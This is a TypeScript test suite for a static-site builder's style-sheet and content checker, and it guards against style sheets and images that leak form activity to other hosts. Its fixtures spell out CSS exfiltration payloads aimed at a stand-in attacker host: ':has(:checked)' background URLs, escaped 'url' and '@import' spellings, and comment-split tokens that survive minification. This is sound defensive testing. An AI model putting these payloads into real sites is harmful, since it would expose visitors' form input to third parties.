/** Threat: a style sheet or an image that tells another host what a visitor does in a form. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { array, assert, constantFrom, property, tuple } from 'fast-check'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { transform } from 'esbuild'
import { checkServedSheet, checkStyleSheet } from '../../builder/content/style-sheet.ts'
import { build } from '../../builder/release/build.ts'
import { toFileName } from '../../builder/site/assets.ts'
import { Work } from '../../builder/work/work.ts'
import { createPolicies } from '../../builder/views/policies.ts'
import { checkContent, toLine } from '../builder/content/check-content.ts'

const OWN = ['https://www.example.com']
const check = (css: string) =>
  checkStyleSheet('theme.css', css, OWN).map(({ line, column, rule }) => `${line}:${column} ${rule}`)

test.each([
  ['what was checked', 'label:has(:checked) { background: url(https://evil.example/yes) }', ['1:35 foreign-address']],
  ['a text', 'a { background: url("https://evil.example/a") }', ['1:21 foreign-address']],
  ['an address without a scheme', 'a {\n  background: url(//evil.example/a)\n}', ['2:15 foreign-address']],
  ['an address with backslashes', String.raw`a { background: url("\\\\evil.example/a") }`, ['1:21 foreign-address']],
  ['another scheme', 'a { background: url(http:evil.example/a) }', ['1:17 foreign-address']],
  ['an escaped function', String.raw`a { background: u\72l(https://evil.example/a) }`, ['1:17 foreign-address']],
  ['an escaped address', String.raw`a { background: url(https\3a//evil.example/a) }`, ['1:17 foreign-address']],
  ['a set of images', 'a { background: image-set("https://evil.example/a" 1x) }', ['1:27 foreign-address']],
  [
    'a custom property',
    ':root { --x: "https://evil.example/a" } a { background: image-set(var(--x) 1x) }',
    ['1:14 foreign-address'],
  ],
  ['a font', '@font-face { font-family: x; src: url(https://evil.example/f.woff2) }', ['1:35 foreign-address']],
  ['an import', '@import "other.css";', ['1:1 style-import']],
  [
    'an import of another host',
    '@IMPORT url(https://evil.example/a.css);',
    ['1:1 style-import', '1:9 foreign-address'],
  ],
  ['an escaped import', String.raw`@\69mport "a.css";`, ['1:1 style-import']],
  ['a text without its end', 'a { content: "x\n}', ['1:14 css-syntax']],
  ['a comment without its end', 'a {}\n/* x', ['2:1 css-syntax']],
  ['rules in 100 others', 'a{'.repeat(101), ['1:202 css-syntax']],
  ['parentheses in 100 others', `a{b:${'calc('.repeat(101)}`, ['1:500 css-syntax']],
  ['a backslash at the end of a line', 'a { color: \\\n }', ['1:12 css-syntax']],
  ['a line break within an address', 'a { background: url("ht\\\ntps://evil.example/a") }', ['1:21 foreign-address']],
])('a style sheet is refused for %s', (_, css, faults) => {
  expect(check(css)).toEqual(faults)
})

/** How each letter of an address can be written (CSS Syntax, section 4.3.7). */
const spelling = constantFrom(
  (letter: string) => letter,
  (letter: string) => letter.toUpperCase(),
  (letter: string) => `\\${letter.codePointAt(0)?.toString(16)} `,
  (letter: string) => `\\${letter.codePointAt(0)?.toString(16).toUpperCase().padStart(6, '0')}`,
)
const address = tuple(
  constantFrom('https://evil.example/a', '//evil.example/a', 'wss:evil.example'),
  array(spelling, { minLength: 30, maxLength: 30 }),
).map(([text, spellings]) => Array.from(text, (letter, at) => spellings[at]?.(letter) ?? letter).join(''))
const container = constantFrom(
  (url: string) => `a{b:url(${url})}`,
  (url: string) => `a{b:url( "${url}" )}`,
  (url: string) => `a{b:\\55\\52l('${url}')}`,
  (url: string) => `a{b:image-set("${url}" 1x)}`,
  (url: string) => `@media print{:root{--x:"${url}"}}`,
  (url: string) => `@font-face{src:url(${url})format("woff2")}`,
  (url: string) => `@supports(a:b){@import "${url}"}`,
)

test('an address of another host is refused however it is spelt, wherever it stands', () => {
  assert(
    property(address, container, (url, contain) => {
      expect(checkStyleSheet('theme.css', contain(url), OWN).map(({ rule }) => rule)).toContain('foreign-address')
    }),
    { numRuns: 500 },
  )
})

test.each([
  'a { background: url(/assets/paper.png) }',
  'a { background: url("../assets/paper.png") }',
  'a { background: url(https://www.example.com/assets/paper.png) }',
  'a { background: url(data:image/png;base64,AAAA); filter: url(#blur) }',
  'a::after { content: "Note: see //comments, http and https" }',
  'a/**/.b /* c */ > d/* e */{ color: /* f */ red/* g */; }',
  '/* @import url(https://evil.example/) */ a { color: red }',
])('a style sheet may hold %s', (css) => {
  expect(check(css)).toEqual([])
})

test.each([
  'a { b: ur/**/l(//evil.example/a) }',
  'a { b: url/**/(//evil.example/a) }',
  ':root { --x: ur/**/l(//evil.example/a) }',
])('a style sheet is refused for what the minifier makes of %s', async (css) => {
  expect(check(css)).toEqual([])
  const { code } = await transform(css, { loader: 'css', minify: true })
  expect(checkServedSheet('theme.css', code, OWN).map(({ rule, line }) => ({ rule, line }))).toEqual([
    { rule: 'foreign-address', line: undefined },
  ])
})

const settings = { url: undefined, now: new Date(0), captcha: undefined, reloadUrl: undefined }

let folder: string
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'lectern-style-'))
  mkdirSync(join(folder, 'pages'))
  writeFileSync(join(folder, 'site.yaml'), 'name: N\ndescription: D\nurl: https://www.example.com\n')
  writeFileSync(join(folder, 'pages/index.md'), '---\ntitle: T\ndescription: D\n---\n\nText.\n')
})
afterAll(() => rmSync(folder, { recursive: true }))

test('a build tells of a style sheet that loads from another host when it is minified', async () => {
  writeFileSync(join(folder, 'theme.css'), 'a { b: ur/**/l(//evil.example/a) }\n')
  const { messages } = await build({ content: folder, check: true, ...settings }, new Work())
  expect(messages.map(({ file, line, rule }) => ({ file, line, rule }))).toEqual([
    { file: 'theme.css', line: undefined, rule: 'foreign-address' },
  ])
})

test('a build tells where a style sheet loads from another host', async () => {
  writeFileSync(join(folder, 'theme.css'), '/* Ours */\na { background: url(//evil.example/a) }\n')
  const { messages } = await build({ content: folder, check: true, ...settings }, new Work())
  expect(messages.map(toLine)).toEqual([
    'theme.css:2:17 error foreign-address The style sheet loads "//evil.example/a" from another host, which would learn what visitors do.',
  ])
  expect(messages[0]?.excerpt?.text).toBe('a { background: url(//evil.example/a) }')
})

test('a page with a form shows images of the site alone', () => {
  const { 'form-page': form, page } = createPolicies({ url: 'https://www.example.com' })
  const policyOf = (policy: typeof form) => policy?.headers.find(([name]) => name === 'Content-Security-Policy')?.[1]
  expect(policyOf(form)).toContain("img-src 'self' data:; media-src 'self';")
  expect(policyOf(page)).toContain("img-src 'self' https: data:; media-src 'self' https:;")
})

test('an HTML file with a style sheet of its own tells no other host what a visitor types', () => {
  const [path, bytes] = ['/a.html', new Uint8Array(1)]
  const { id } = toFileName('text/html', bytes)
  const file = { path, file: 'static/a.html', extension: 'html', id, size: 1, read: () => bytes } as const
  const statics = new Map([[path, file]])
  const { 'static-html': policy } = createPolicies({ url: 'https://www.example.com', statics })
  expect(policy?.headers).toContainEqual([
    'Content-Security-Policy',
    "default-src 'none'; img-src 'self' data:; media-src 'self'; font-src 'self'; style-src 'self'; form-action 'none'; base-uri 'none'; frame-ancestors 'none'; sandbox allow-scripts allow-popups allow-popups-to-escape-sandbox allow-downloads; require-trusted-types-for 'script'; trusted-types 'none'",
  ])
})

const withImages = (form: string) => ({
  'pages/contact.md': `---\ntitle: T\ndescription: D\n${form}---\n\n![a](https://evil.example/a.png) <img src="//evil.example/b.png" alt="b">\n\n![c][1]\n\n[1]: https://evil.example/c.png\n`,
})

test('a page with a form is told of each image of another host', () => {
  expect(
    checkContent(withImages('form: contact\n')).map(({ line, column, rule }) => `${line}:${column} ${rule}`),
  ).toEqual(['7:6 foreign-image', '7:44 foreign-image', '11:6 foreign-image'])
  expect(checkContent(withImages('')).map(toLine)).toEqual([])
})

test('a build tells of a style sheet that cannot be read', async () => {
  writeFileSync(join(folder, 'theme.css'), '/* Ours')
  const { messages } = await build({ content: folder, check: true, ...settings }, new Work())
  expect(messages.map(toLine)).toEqual([
    'theme.css:1:1 error css-syntax Cannot read this as CSS: unexpected EOF while consuming a comment.',
  ])
})
